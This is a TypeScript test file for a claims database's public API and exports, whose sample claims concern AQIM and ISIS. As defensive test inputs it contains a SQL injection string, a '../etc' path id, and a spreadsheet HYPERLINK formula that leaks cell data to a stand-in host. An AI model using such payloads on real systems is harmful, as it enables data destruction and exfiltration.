import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as claimRoute from '@/app/api/v1/claims/[id]/route';
import * as claimsRoute from '@/app/api/v1/claims/route';
import * as contradictionRoute from '@/app/api/v1/contradictions/[id]/route';
import * as contradictionsRoute from '@/app/api/v1/contradictions/route';
import * as entitiesRoute from '@/app/api/v1/entities/route';
import * as sourcesRoute from '@/app/api/v1/sources/route';
import * as topicsRoute from '@/app/api/v1/topics/route';
import { GET as exportCsv } from '@/app/export/claims.csv/route';
import { GET as exportJson } from '@/app/export/claims.json/route';
import type { Actor } from '@/lib/auth/permissions';
import { createClaim } from '@/lib/claims/create-claim';
import { submitClaim } from '@/lib/claims/submit-claim';
import { updateClaim } from '@/lib/claims/update-claim';
import type { Database } from '@/lib/database/prisma-client';
import { publicSourceSelect } from '@/lib/public-api/reference-lists';
import { createLink } from '@/lib/links/create-link';
import { submitLink } from '@/lib/links/update-link';
import { decideOnClaim, decideOnLink } from '@/lib/reviews/decide';
import { createActor, uniqueUrl } from '../setup/actors';
import { claimFixtures, claimInput, type ClaimFixtures } from '../setup/claim-fixtures';
import { testDb } from '../setup/databases';

type Handler = (request: Request, context: { params: Promise<never> }) => Promise<Response>;

let db: Database;
let editor: Actor;
let reviewer: Actor;
let fixtures: ClaimFixtures;
let otherTopic: { slug: string; id: string };
const ids: Record<string, string> = {};
const quotedStatement = (tag: string) => `He said "we never pledged", then, later, "we did" (${tag})`;

async function get(handler: unknown, path: string, params: Record<string, string> = {}) {
  const response = await (handler as Handler)(new Request(`http://localhost${path}`), { params: Promise.resolve(params as never) });
  return { response, body: await response.json() };
}

async function inReview(override: Record<string, unknown>) {
  const claim = await createClaim(editor, claimInput(fixtures, override));
  await submitClaim(editor, claim.id, { version: 1 });
  return claim.id;
}

async function published(override: Record<string, unknown>) {
  const id = await inReview(override);
  await decideOnClaim(reviewer, id, { version: 1, decision: 'APPROVE' });
  return id;
}

async function approvedLink(claimAId: string, claimBId: string, note: string) {
  const link = await createLink(editor, { claimAId, claimBId, kind: 'CONTRADICTS', note });
  await submitLink(editor, link.id, { version: 1 });
  await decideOnLink(reviewer, link.id, { version: 1, decision: 'APPROVE' });
  return link.id;
}

beforeAll(async () => {
  db = testDb();
  [editor, reviewer] = await Promise.all([createActor(db, 'EDITOR'), createActor(db, 'REVIEWER')]);
  fixtures = await claimFixtures(db, editor);
  const poorSource = await db.source.create({
    data: { title: `Forum post ${fixtures.tag}`, url: uniqueUrl('forum'), publisher: 'A forum', kind: 'SOCIAL_MEDIA', grade: 'E', createdById: editor.id },
  });
  ids.quoted = await published({ statement: quotedStatement(fixtures.tag), claimedAt: '2014-07-14' });
  ids.edited = await published({ statement: `Approved wording ${fixtures.tag}`, claimedAt: '2015-03-01' });
  // The rewording also names ISIS: a draft's entity must not put the claim on ISIS's list.
  await updateClaim(editor, ids.edited, { version: 1, statement: `Unapproved rewording ${fixtures.tag}`, subjectId: fixtures.isis.id });
  ids.retracted = await published({ statement: `Later retracted ${fixtures.tag}`, claimedAt: '2016-01-10' });
  await decideOnClaim(reviewer, ids.retracted, { version: 1, decision: 'RETRACT', note: 'The statement was a forgery' });
  ids.isis = await published({
    statement: `AQIM rejects ISIS ${fixtures.tag}`,
    subjectId: fixtures.isis.id,
    claimedAt: '2017-05-05',
    citations: [{ sourceId: poorSource.id, quote: 'a rumour on a forum' }],
  });
  ids.draft = (await createClaim(editor, claimInput(fixtures, { statement: `Draft ${fixtures.tag}` }))).id;
  ids.inReview = await inReview({ statement: `In review ${fixtures.tag}` });
  ids.rejected = await inReview({ statement: `Rejected ${fixtures.tag}` });
  await decideOnClaim(reviewer, ids.rejected, { version: 1, decision: 'REJECT', note: 'No source for this' });

  ids.contradiction = await approvedLink(ids.quoted, ids.isis, 'Cannot both hold');
  // A contradiction on a topic of its own, retracted: the public keeps it, marked so.
  otherTopic = await db.topic.create({ data: { slug: `other-${fixtures.tag}`, title: `Other ${fixtures.tag}`, summary: '' } });
  const [clashA, clashB] = [await published({ topicIds: [otherTopic.id] }), await published({ topicIds: [otherTopic.id], polarity: 'DENIES' })];
  ids.retractedContradiction = await approvedLink(clashA, clashB, 'Seemed to clash');
  await decideOnLink(reviewer, ids.retractedContradiction, { version: 1, decision: 'RETRACT', note: 'Different years' });
  ids.draftLink = (await createLink(editor, { claimAId: ids.quoted, claimBId: ids.edited, kind: 'CONTRADICTS', note: 'Not yet reviewed' })).id;
  // A link to a claim still in review: approving it may be refused; either way it must stay off the record.
  ids.linkToUnpublished = (await createLink(editor, { claimAId: ids.edited, claimBId: ids.inReview, kind: 'CONTRADICTS' })).id;
  await submitLink(editor, ids.linkToUnpublished, { version: 1 });
  await decideOnLink(reviewer, ids.linkToUnpublished, { version: 1, decision: 'APPROVE' }).catch(() => undefined);
});
afterAll(() => db.$disconnect());

const topic = () => `topic=${fixtures.topic.slug}`;

async function allPages(route: unknown, query: string) {
  const seen: string[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const { response, body } = await get(route, `/api/v1/claims?${query}${cursor ? `&cursor=${cursor}` : ''}`);
    expect(response.status).toBe(200);
    expect(body.data.length).toBeLessThanOrEqual(2);
    seen.push(...body.data.map((item: { id: string }) => item.id));
    cursor = body.nextCursor;
    pages++;
  } while (cursor && pages < 20);
  return seen;
}

describe('the public claims API', () => {
  it('lists only approved and retracted claims, each at its approved version', async () => {
    const { response, body } = await get(claimsRoute.GET, `/api/v1/claims?${topic()}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
    expect(body.data.map((claim: { id: string }) => claim.id).sort()).toEqual([ids.quoted, ids.edited, ids.retracted, ids.isis].sort());
    const edited = body.data.find((claim: { id: string }) => claim.id === ids.edited);
    expect(edited).toMatchObject({ statement: `Approved wording ${fixtures.tag}`, version: 1, claimedAt: '2015-03-01', url: `http://localhost/claims/${ids.edited}` });
    expect(edited.signOff).toEqual({ reviewer: reviewer.name, date: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/) });
    expect(edited.citations[0].source).toMatchObject({ id: fixtures.source.id, grade: 'B', publisher: 'Long War Journal' });
    expect(edited.subject).toEqual({ slug: fixtures.aqim.slug, name: fixtures.aqim.name });
    expect(edited.relation).toBe('pledges allegiance to');
    expect(edited.topics).toEqual([{ slug: fixtures.topic.slug, title: fixtures.topic.title }]);
    expect(edited.retracted).toBeNull();
    expect(body.data.find((claim: { id: string }) => claim.id === ids.retracted).retracted).toEqual({ at: expect.any(String), note: 'The statement was a forgery' });
  });

  it('answers one published claim by id, and 404 for a draft, one in review, a rejected one or a made-up id', async () => {
    const { response, body } = await get(claimRoute.GET, `/api/v1/claims/${ids.edited}`, { id: ids.edited });
    expect(response.status).toBe(200);
    expect(body.data.statement).toBe(`Approved wording ${fixtures.tag}`);
    for (const id of [ids.draft, ids.inReview, ids.rejected, randomUUID(), 'not-a-uuid']) {
      const missing = await get(claimRoute.GET, `/api/v1/claims/${id}`, { id });
      expect(missing.response.status).toBe(404);
      expect(missing.body.error.code).toBe('NOT_FOUND');
      expect(missing.response.headers.get('access-control-allow-origin')).toBe('*');
    }
  });

  it('pages through every claim exactly once', async () => {
    const seen = await allPages(claimsRoute.GET, `${topic()}&limit=2`);
    expect(seen).toHaveLength(4);
    expect(new Set(seen)).toEqual(new Set([ids.quoted, ids.edited, ids.retracted, ids.isis]));
  });

  it('filters by entity id or slug, topic, date range and source grade', async () => {
    const idsOf = async (query: string) => (await get(claimsRoute.GET, `/api/v1/claims?${query}`)).body.data.map((claim: { id: string }) => claim.id).sort();
    expect(await idsOf(`entity=${fixtures.isis.slug}`)).toEqual([ids.isis]);
    expect(await idsOf(`entity=${fixtures.isis.id}`)).toEqual([ids.isis]);
    expect(await idsOf(`entity=${fixtures.isis.slug}&${topic()}&grade=E`)).toEqual([ids.isis]);
    expect(await idsOf('entity=no-such-entity')).toEqual([]);
    expect(await idsOf(`${topic()}&from=2015-01-01&to=2016-12-31`)).toEqual([ids.edited, ids.retracted].sort());
    expect(await idsOf(`${topic()}&grade=E`)).toEqual([ids.isis]);
    expect(await idsOf(`${topic()}&grade=B`)).toEqual([ids.quoted, ids.edited, ids.retracted].sort());
    // Only the approved link between two published claims counts; the draft link and the one to a claim in
    // review do not put `edited` on the list.
    expect(await idsOf(`${topic()}&kind=CONTRADICTS`)).toEqual([ids.quoted, ids.isis].sort());
    expect(await idsOf(`${topic()}&kind=SUPPORTS`)).toEqual([]);
    expect(await idsOf('topic=no-such-topic')).toEqual([]);
  });

  it('answers every bad input with 400 JSON, never a 500', async () => {
    const bad = ['limit=-1', 'limit=0', 'limit=100000', 'limit=abc', 'cursor=%%%', 'cursor=bm90LWpzb24', 'from=2014-13-45', 'to=yesterday', 'from=2016-01-01&to=2015-01-01', 'grade=G', 'kind=LIKES', 'foo=bar', 'limit=2&limit=3'];
    bad.push(new URLSearchParams({ q: "'; drop table claims; --" }).toString());
    for (const query of bad) {
      const { response, body } = await get(claimsRoute.GET, `/api/v1/claims?${query}`);
      expect(response.status, query).toBe(400);
      expect(body.error).toMatchObject({ code: 'INVALID', message: expect.any(String), fields: expect.any(Object) });
      expect(response.headers.get('access-control-allow-origin')).toBe('*');
    }
    for (const route of [contradictionsRoute.GET, sourcesRoute.GET, entitiesRoute.GET, topicsRoute.GET]) {
      expect((await get(route, '/api/v1/x?cursor=%%%')).response.status).toBe(400);
      expect((await get(route, '/api/v1/x?limit=101')).response.status).toBe(400);
    }
    expect((await get(claimRoute.GET, `/api/v1/claims/${ids.edited}?foo=bar`, { id: ids.edited })).response.status).toBe(400);
  });

  it('answers a CORS preflight with 204 and the methods it allows', async () => {
    for (const route of [claimsRoute, claimRoute, contradictionsRoute, contradictionRoute, sourcesRoute, entitiesRoute, topicsRoute]) {
      const response = route.OPTIONS();
      expect(response.status).toBe(204);
      expect(response.headers.get('access-control-allow-origin')).toBe('*');
      expect(response.headers.get('access-control-allow-methods')).toBe('GET, OPTIONS');
    }
  });
});

describe('the public contradictions API', () => {
  it('lists a published contradiction between published claims, and nothing unapproved', async () => {
    const { response, body } = await get(contradictionsRoute.GET, `/api/v1/contradictions?${topic()}`);
    expect(response.status).toBe(200);
    expect(body.data.map((link: { id: string }) => link.id)).toEqual([ids.contradiction]);
    expect(body.nextCursor).toBeNull();
    expect(body.data[0]).toMatchObject({
      kind: 'CONTRADICTS',
      note: 'Cannot both hold',
      claimA: { id: ids.quoted, statement: quotedStatement(fixtures.tag) },
      claimB: { id: ids.isis },
      signOff: { reviewer: reviewer.name },
      retracted: null,
    });
    const other = await get(contradictionsRoute.GET, `/api/v1/contradictions?topic=${otherTopic.slug}`);
    expect(other.body.data).toEqual([expect.objectContaining({ id: ids.retractedContradiction, retracted: expect.objectContaining({ note: 'Different years' }) })]);
    const idsOf = async (query: string) => (await get(contradictionsRoute.GET, `/api/v1/contradictions?${query}`)).body.data.map((link: { id: string }) => link.id);
    expect(await idsOf(`entity=${fixtures.isis.slug}`)).toEqual([ids.contradiction]);
    expect(await idsOf(`entity=${fixtures.aqim.slug}`)).toEqual([ids.contradiction, ids.retractedContradiction]);
    expect(await idsOf(`entity=${fixtures.aqim.id}&topic=${otherTopic.slug}`)).toEqual([ids.retractedContradiction]);
    expect(await idsOf(`entity=${fixtures.isis.slug}&topic=${otherTopic.slug}`)).toEqual([]);
    expect(await idsOf('entity=no-such-entity')).toEqual([]);
    expect(await idsOf('topic=no-such-topic')).toEqual([]);
  });

  it('lists each contradiction exactly as its own address answers it, a page at a time', async () => {
    const query = `/api/v1/contradictions?entity=${fixtures.aqim.slug}&limit=1`;
    const first = await get(contradictionsRoute.GET, query);
    const second = await get(contradictionsRoute.GET, `${query}&cursor=${first.body.nextCursor}`);
    expect(second.body.nextCursor).toBeNull();
    for (const listed of [...first.body.data, ...second.body.data]) {
      const own = await get(contradictionRoute.GET, '/api/v1/contradictions/x', { id: listed.id });
      // Stringified, so that the keys must come in the same order too.
      expect(JSON.stringify(listed)).toBe(JSON.stringify(own.body.data));
    }
    expect([...first.body.data, ...second.body.data].map((link: { id: string }) => link.id)).toEqual([ids.contradiction, ids.retractedContradiction]);
  });

  it('gives a contradiction with its claims as their own addresses give them, then its sign-off, version, address and retraction', async () => {
    const claim = async (id: string) => (await get(claimRoute.GET, '/api/v1/claims/x', { id })).body.data;
    const reviewed = (id: string) =>
      db.review.findMany({ where: { OR: [{ linkId: id }, { linkVersion: { linkId: id } }] }, orderBy: { createdAt: 'asc' }, select: { decision: true, createdAt: true } });
    const approval = (await reviewed(ids.contradiction)).find((review) => review.decision === 'APPROVE');
    const { body } = await get(contradictionRoute.GET, '/api/v1/contradictions/x', { id: ids.contradiction });
    // Stringified, so that the keys must come in this order too.
    expect(JSON.stringify(body.data)).toBe(
      JSON.stringify({
        id: ids.contradiction,
        kind: 'CONTRADICTS',
        note: 'Cannot both hold',
        resolution: 'UNRESOLVED',
        resolutionNote: '',
        claimA: await claim(ids.quoted),
        claimB: await claim(ids.isis),
        signOff: { reviewer: reviewer.name, date: approval?.createdAt.toISOString().slice(0, 10) },
        version: 1,
        url: `http://localhost/contradictions/${ids.contradiction}`,
        retracted: null,
      }),
    );
    const retraction = (await reviewed(ids.retractedContradiction)).find((review) => review.decision === 'RETRACT');
    const retracted = await get(contradictionRoute.GET, '/api/v1/contradictions/x', { id: ids.retractedContradiction });
    expect(retracted.body.data.retracted).toEqual({ at: retraction?.createdAt.toISOString(), note: 'Different years' });
  });

  it('answers a published contradiction by id and 404 for a draft link or one to an unpublished claim', async () => {
    const { response, body } = await get(contradictionRoute.GET, '/api/v1/contradictions/x', { id: ids.contradiction });
    expect(response.status).toBe(200);
    expect(body.data.url).toBe(`http://localhost/contradictions/${ids.contradiction}`);
    const upperCase = await get(contradictionRoute.GET, '/api/v1/contradictions/x', { id: ids.contradiction.toUpperCase() });
    expect(upperCase.body).toEqual(body);
    // A published link of another kind is not a contradiction.
    const supports = await createLink(editor, { claimAId: ids.quoted, claimBId: ids.isis, kind: 'SUPPORTS', note: 'Both say it' });
    await submitLink(editor, supports.id, { version: 1 });
    await decideOnLink(reviewer, supports.id, { version: 1, decision: 'APPROVE' });
    for (const id of [ids.draftLink, ids.linkToUnpublished, supports.id, randomUUID(), '../etc']) {
      expect((await get(contradictionRoute.GET, '/api/v1/contradictions/x', { id })).response.status).toBe(404);
    }
  });
});

describe('the public reference lists', () => {
  const everyItem = async (route: unknown, limit = 100) => {
    const items: { id: string }[] = [];
    let cursor: string | null = null;
    do {
      const { body } = await get(route, `/api/v1/x?limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
      items.push(...body.data);
      cursor = body.nextCursor;
    } while (cursor);
    return items;
  };
  const everything = async (route: unknown) => (await everyItem(route)).map((item) => item.id);

  it('list the sources, entities and topics that published claims use', async () => {
    const draftOnly = await db.source.create({
      data: { title: `Cited by a draft ${fixtures.tag}`, url: uniqueUrl('draft-only'), publisher: 'A wire', kind: 'PRIMARY_STATEMENT', grade: 'C', createdById: editor.id },
    });
    await createClaim(editor, claimInput(fixtures, { statement: `Drafted ${fixtures.tag}`, citations: [{ sourceId: draftOnly.id, quote: 'a draft quotes it' }] }));
    const sources = await everything(sourcesRoute.GET);
    expect(sources).toContain(fixtures.source.id);
    expect(sources).not.toContain(draftOnly.id);
    const unusedTopic = await db.topic.create({ data: { slug: `unused-${fixtures.tag}`, title: `Unused ${fixtures.tag}`, summary: '' } });
    expect(await everything(topicsRoute.GET)).not.toContain(unusedTopic.id);
    const entities = await everything(entitiesRoute.GET);
    expect(entities).toEqual(expect.arrayContaining([fixtures.aqim.id, fixtures.isis.id, fixtures.zawahiri.id]));
    expect(await everything(topicsRoute.GET)).toContain(fixtures.topic.id);
    const unused = await db.entity.create({ data: { slug: `unused-${fixtures.tag}`, name: `Unused ${fixtures.tag}`, kind: 'PERSON', createdById: editor.id } });
    expect(await everything(entitiesRoute.GET)).not.toContain(unused.id);
  });

  it('give a source as a reader sees it, its days as days, a correction included, page after page', async () => {
    const corrected = await db.source.create({
      data: {
        title: `Corrected report ${fixtures.tag}`,
        url: uniqueUrl('corrected'),
        publisher: 'A wire',
        kind: 'PRIMARY_STATEMENT',
        grade: 'B',
        publishedAt: new Date('2014-07-14T00:00:00Z'),
        correctionKind: 'CORRECTED',
        correctedAt: new Date('2014-07-20T00:00:00Z'),
        correctionNote: 'The date of the pledge',
        createdById: editor.id,
      },
    });
    await published({ statement: `Cites a corrected report ${fixtures.tag}`, citations: [{ sourceId: corrected.id, quote: 'as corrected' }] });
    const source = await db.source.findUniqueOrThrow({ where: { id: corrected.id }, select: publicSourceSelect });
    // A few at a time, so that the walk goes through the cursor.
    const listed = await everyItem(sourcesRoute.GET, 3);
    expect(listed.filter((item) => item.id === corrected.id)).toEqual([{ ...source, publishedAt: '2014-07-14', correctedAt: '2014-07-20' }]);
    expect(listed.map((item) => item.id)).toEqual((await everything(sourcesRoute.GET)).sort());
  });
});

/** RFC 4180 records, for checking the export's quoting from the outside. */
function parseCsv(text: string) {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') record.push(field), (field = '');
    else if (char === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += char;
  }
  return records;
}

describe('the exports', () => {
  it('stream every published claim as CSV, one row each, quotes escaped', async () => {
    const response = await exportCsv(new Request('http://localhost/export/claims.csv'));
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="counterclaim-claims-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.body).toBeInstanceOf(ReadableStream);
    const [header, ...rows] = parseCsv(await response.text());
    expect(header.slice(0, 3)).toEqual(['id', 'statement', 'claimedAt']);
    expect(rows.every((row) => row.length === header.length)).toBe(true);
    expect(rows).toHaveLength(await db.claim.count({ where: { publishedVersionId: { not: null } } }));
    const rowIds = rows.map((row) => row[0]);
    expect(new Set(rowIds).size).toBe(rowIds.length);
    for (const id of [ids.draft, ids.inReview, ids.rejected]) expect(rowIds).not.toContain(id);
    expect(rows.find((row) => row[0] === ids.quoted)?.[1]).toBe(quotedStatement(fixtures.tag));
    expect(rows.find((row) => row[0] === ids.edited)?.[1]).toBe(`Approved wording ${fixtures.tag}`);
    expect(rows.find((row) => row[0] === ids.retracted)?.[header.indexOf('retractionNote')]).toBe('The statement was a forgery');
  });

  it('stream the same record as a JSON array that parses', async () => {
    const response = await exportJson(new Request('http://localhost/export/claims.json'));
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="counterclaim-claims-\d{4}-\d{2}-\d{2}\.json"$/);
    const claims: { id: string; statement: string }[] = JSON.parse(await response.text());
    expect(claims).toHaveLength(await db.claim.count({ where: { publishedVersionId: { not: null } } }));
    expect(claims.find((claim) => claim.id === ids.edited)?.statement).toBe(`Approved wording ${fixtures.tag}`);
    expect(claims.map((claim) => claim.id)).not.toContain(ids.draft);
  });

  // Last in this file: it publishes a claim of its own, which the lists above do not expect.
  it('write a field a spreadsheet would run as a formula with a leading apostrophe, and keep numbers as they are', async () => {
    const statement = `=HYPERLINK("http://example.test/?leak="&A1, "AQIM") ${fixtures.tag}`;
    const id = await published({ statement, claimedAt: '2016-02-01', credibilityNote: '-3 dead, then +2: reports differ' });
    const [header, ...rows] = parseCsv(await (await exportCsv(new Request('http://localhost/export/claims.csv'))).text());
    const row = rows.find((fields) => fields[0] === id)!;
    expect(row[header.indexOf('statement')]).toBe(`'${statement}`);
    expect(row[header.indexOf('credibilityNote')]).toBe("'-3 dead, then +2: reports differ");
    expect(row[header.indexOf('credibility')]).toMatch(/^\d$/);
  });
});
